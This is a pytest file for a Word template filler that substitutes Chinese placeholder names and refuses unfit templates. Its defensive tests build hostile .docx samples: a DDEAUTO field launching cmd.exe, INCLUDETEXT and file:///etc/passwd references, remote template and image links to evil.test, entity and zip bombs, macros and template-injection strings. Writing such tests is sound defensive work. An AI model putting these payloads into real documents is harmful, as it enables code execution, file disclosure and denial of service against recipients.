"""An office's own template: what is filled in, and what is refused with the place named."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from contextlib import suppress

import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st

from jobs import summaries as desk
from jobs import summary_filler
from jobs.summary_filler import UnfitTemplate, fill
from prompts import render, t
from tests.summaries.conftest import Paper, changed, word

TABLE = {
    "table": {
        "head": ["学校", "在册"],
        "rows": [["甲中学", "3"], ["合计", "3"]],
        "figures": [False, True],
        "total": True,
    }
}
TOLD = {
    "期次": "示例一期",
    "在册人数": "3",
    "表：按学校": TABLE,
    "表：测试": {"table": None},
    "有测试才写": None,
    "有评价才写": "",
    "总结到此为止": {"end": True},
    "sessions": "12",
}


def filled(*paragraphs: str, header: str = "") -> Paper:
    return Paper(fill(word(*paragraphs, header=header), TOLD))


def unfit(data: bytes) -> str:
    """Why a template is not taken, as somebody reads it."""
    with pytest.raises(UnfitTemplate) as refused:
        fill(data, TOLD)
    why = refused.value
    assert why.code in summary_filler.CODES
    return render(t("summary.unfit." + why.code, **why.gaps), "zh")


# ---------------------------------------------------------------- what is filled in


def test_names_become_figures_and_all_other_words_stay() -> None:
    paper = filled(
        "“{{期次}}”有{{ 在册人数 }}名，再说一遍{{在册人数}}；{ 不是 }", "{{sessions}} of us"
    )
    assert paper.lines[:2] == ["“示例一期”有3名，再说一遍3；{ 不是 }", "12 of us"]


def test_braces_of_full_width_and_an_ascii_colon_are_the_same() -> None:
    data = word("｛｛在册人数｝｝名")
    assert Paper(fill(data, TOLD)).lines[0] == "3名"
    with_colon = fill(word("{{表:按学校}}"), TOLD)
    assert Document(io.BytesIO(with_colon)).tables[0].cell(1, 1).text == "3"


def test_a_name_that_word_has_cut_into_pieces_is_one_name() -> None:
    document = Document()
    paragraph = document.add_paragraph("共")
    for piece in ("{", "{在册", "人数}", "}", "名"):
        paragraph.add_run(piece).bold = piece == "{在册"
    out = io.BytesIO()
    document.save(out)
    assert Paper(fill(out.getvalue(), TOLD)).lines[0] == "共3名"


def test_names_stand_in_headers_and_in_tables_too() -> None:
    document = Document()
    cells = document.add_table(2, 2).rows
    cells[0].cells[0].text, cells[0].cells[1].text = "人数", "{{在册人数}}"
    cells[1].cells[0].text, cells[1].cells[1].text = "测试", "{{有测试才写}}5"
    document.sections[0].header.paragraphs[0].text = "{{期次}}"
    out = io.BytesIO()
    document.save(out)
    done = Document(io.BytesIO(fill(out.getvalue(), TOLD)))
    assert done.sections[0].header.paragraphs[0].text == "示例一期"
    # The row that names what is not asked for is not there.
    assert [[cell.text for cell in row.cells] for row in done.tables[0].rows] == [["人数", "3"]]


def test_what_is_not_asked_for_leaves_its_paragraph_out() -> None:
    paper = filled("一", "测试{{有测试才写}}", "{{表：测试}}", "评价{{有评价才写}}", "二")
    assert [line for line in paper.lines if line] == ["一", "评价", "二"]


def test_a_table_takes_the_place_of_its_paragraph() -> None:
    done = Document(io.BytesIO(fill(word("前", "{{表：按学校}}", "{{表：按学校}}", "后"), TOLD)))
    assert len(done.tables) == 2
    rows = [[cell.text for cell in row.cells] for row in done.tables[0].rows]
    assert rows == [["学校", "在册"], ["甲中学", "3"], ["合计", "3"]]
    assert [one.text for one in done.paragraphs if one.text] == ["前", "后"]


def test_nothing_behind_the_end_is_read_or_shown() -> None:
    paper = filled("{{在册人数}}", "{{总结到此为止}}", "{{谁也不认得}}", "{% for %}")
    assert [line for line in paper.lines if line] == ["3"]


def test_a_value_is_never_read_as_a_name() -> None:
    told = TOLD | {"期次": "{{在册人数}}<w:p/>&\x0b"}
    assert Paper(fill(word("{{期次}}"), told)).lines[0] == "{{在册人数}}<w:p/>&"


# ---------------------------------------------------------------- what is refused


@pytest.mark.parametrize(
    ("words", "told"),
    [
        ("共{{学生总数}}名", "「{{学生总数}}」不是能用的名字"),
        ("{{期次.__class__.__mro__}}", "「{{期次.__class__.__mro__}}」不是"),
        ("{{ ''.join(['a'])*9**9 }}", "不是能用的名字"),
        ("{{}}", "「{{}}」不是"),
        ("{% for x in range(10**9) %}{{期次}}{% endfor %}", "「{% for x in range(10**9) %}」"),
        ("{# 注 #}{{期次}}", "是程序语句"),
        ("共{{在册人数名", "「共{{在册人数名」这里的双花括号没有成对"),
        ("共在册人数}}名{{期次}}", "没有成对"),
        ("见{{表：按学校}}", "「{{表：按学校}}」是一张表，要单独占一段"),
        ("见{{表：测试}}", "要单独占一段"),
        ("没有名字", "一个双花括号的名字也没有"),
    ],
)
def test_a_template_with_a_mistake_is_refused_where_it_is(words: str, told: str) -> None:
    assert told in unfit(word(words))


def test_a_table_does_not_stand_in_a_header() -> None:
    assert "不能放在页眉" in unfit(word("{{期次}}", header="{{表：按学校}}"))


def set_part(name: str, data: bytes) -> Callable[[dict[str, bytes]], None]:
    return lambda parts: parts.update({name: data})


def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> Callable[..., None]:
    """One more relation of the document."""

    def change(parts: dict[str, bytes]) -> None:
        name = "word/_rels/document.xml.rels"
        base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        one = f'<Relationship Id="rId99" Type="{base}/{kind}" Target="{target}"{mode}/>'
        parts[name] = parts[name].replace(b"</Relationships>", f"{one}</Relationships>".encode())

    return change


def field(code: str) -> Callable[[dict[str, bytes]], None]:
    """A field of Word, whose code is cut in two."""

    def change(parts: dict[str, bytes]) -> None:
        middle = len(code) // 2
        runs = (
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f"<w:r><w:instrText>{code[:middle]}</w:instrText></w:r>"
            f"<w:r><w:instrText>{code[middle:]}</w:instrText></w:r>"
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
        body = parts["word/document.xml"].decode()
        parts["word/document.xml"] = body.replace("<w:sectPr", runs + "<w:sectPr", 1).encode()

    return change


def entity(parts: dict[str, bytes]) -> None:
    bomb = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'
    body = parts["word/document.xml"]
    at = body.index(b"?>") + 2
    parts["word/document.xml"] = body[:at] + bomb + body[at:]


def macros(parts: dict[str, bytes]) -> None:
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    parts["word/vbaProject.bin"] = b"\xd0\xcf"


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (macros, "模板带有宏"),
        (set_part("word/embeddings/oleObject1.bin", b"x"), "嵌着别的文件"),
        (set_part("word/activeX/activeX1.xml", b"<x/>"), "嵌着别的文件"),
        (related("attachedTemplate", "http://evil.test/a.dotm"), "（http://evil.test/a.dotm）"),
        (related("attachedTemplate", "file://evil.test/share/a.dotm"), "连着外面的文件"),
        (related("image", "http://evil.test/a.png"), "连着外面的文件或网址"),
        (related("hyperlink", "file:///etc/passwd"), "连着外面的文件"),
        (related("aFChunk", "chunk.htm", ""), "嵌着别的文件"),
        (field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "「DDEAUTO」"),
        (field('INCLUDETEXT "c:\\\\secret.docx"'), "「INCLUDETEXT」"),
        (field('INCLUDEPICTURE "http://evil.test"'), "「INCLUDEPICTURE」"),
        (entity, "文件打不开"),
        (set_part("word/document.xml", b"<w:document"), "文件打不开"),
        (set_part("word/document.xml", b""), "文件打不开"),
    ],
)
def test_a_hostile_template_is_refused(
    change: Callable[[dict[str, bytes]], None], told: str
) -> None:
    data = word("{{期次}}")
    assert fill(data, TOLD)
    assert told in unfit(changed(data, change))


@pytest.mark.parametrize(
    "change",
    [
        related("hyperlink", "https://example.test/"),
        related("hyperlink", "mailto:office@example.test"),
        field("PAGE"),
        field(' TOC \\\\o "1-2" '),
    ],
)
def test_what_fetches_nothing_by_itself_is_taken(
    change: Callable[[dict[str, bytes]], None],
) -> None:
    assert fill(changed(word("{{期次}}"), change), TOLD)


def test_the_template_on_ones_own_disk_from_which_it_was_begun_is_forgotten() -> None:
    def begun(parts: dict[str, bytes]) -> None:
        base = "http://schemas.openxmlformats.org"
        parts["word/_rels/settings.xml.rels"] = (
            f'<Relationships xmlns="{base}/package/2006/relationships"><Relationship Id="rId1" '
            f'Type="{base}/officeDocument/2006/relationships/attachedTemplate" '
            'Target="file:///C:\\Users\\a\\b.dotx" TargetMode="External"/></Relationships>'
        ).encode()
        parts["word/settings.xml"] = re.sub(
            rb"(<w:settings\b[^>]*>)",
            rb'\1<w:attachedTemplate r:id="rId1" xmlns:r="'
            + base.encode()
            + rb'/officeDocument/2006/relationships"/>',
            parts["word/settings.xml"],
            count=1,
        )

    done = fill(changed(word("{{期次}}"), begun), TOLD)
    with zipfile.ZipFile(io.BytesIO(done)) as archive:
        assert b"attachedTemplate" not in archive.read("word/settings.xml")
        assert b"C:" not in archive.read("word/_rels/settings.xml.rels")
    assert Document(io.BytesIO(done)).paragraphs[0].text == "示例一期"


def bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("word/document.xml", b" " * (80 * 1024 * 1024))
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (b"", "不是 Word 文档"),
        (b"%PDF-1.7", "不是 Word 文档"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 99, "不是 Word 文档"),
        (b"PK\x03\x04 and no more", "文件打不开"),
        (word("{{期次}}")[:2000], "文件打不开"),
    ],
)
def test_what_is_no_document_of_word_is_said_to_be_none(data: bytes, told: str) -> None:
    assert told in unfit(data)


def test_a_bomb_is_not_unpacked() -> None:
    data = bomb()
    assert len(data) < 1024 * 1024
    assert "展开后太大" in unfit(data)


# ---------------------------------------------------------------- in a process of its own


async def test_it_is_filled_in_a_process_that_may_hang_alone() -> None:
    done = await desk.fill_apart(word("{{期次}}"), TOLD)
    assert Document(io.BytesIO(done)).paragraphs[0].text == "示例一期"
    with pytest.raises(desk.NotFilled) as slow:
        await desk.fill_apart(word("{{期次}}"), TOLD, seconds=0.01)
    assert slow.value.words.key == "summary.unfit.too_hard"
    with pytest.raises(desk.NotFilled) as wrong:
        await desk.fill_apart(word("{{谁}}"), TOLD)
    assert "「{{谁}}」" in render(wrong.value.words, "zh")


@pytest.mark.parametrize("language", ["zh", "en"])
def test_our_own_template_is_the_same_file_each_time_and_names_nobody(language: str) -> None:
    from jobs import summary_paper

    made = [summary_paper.template("en" if language == "en" else "zh") for _ in range(2)]
    assert Document(io.BytesIO(made[0])).core_properties.author == ""
    assert len(made[0]) == len(made[1])


# ---------------------------------------------------------------- whatever is sent

GOOD = word("{{期次}}", "{{表：按学校}}")


@given(st.lists(st.tuples(st.integers(0, len(GOOD) - 1), st.integers(0, 255)), max_size=30))
@settings(max_examples=60, deadline=None)
def test_a_damaged_file_is_filled_or_refused_in_words(damage: list[tuple[int, int]]) -> None:
    data = bytearray(GOOD)
    for place, value in damage:
        data[place] = value
    with suppress(UnfitTemplate):
        assert Document(io.BytesIO(fill(bytes(data), TOLD))).paragraphs


@given(st.text(alphabet="{}｛｝%#期次 在册人数表：按学校a.\n", max_size=40))
def test_whatever_is_typed_is_filled_or_refused_in_words(words: str) -> None:
    with suppress(UnfitTemplate):
        shown = Paper(fill(word(words, "{{期次}}"), TOLD)).text
        assert "{{" not in shown
        assert "}}" not in shown
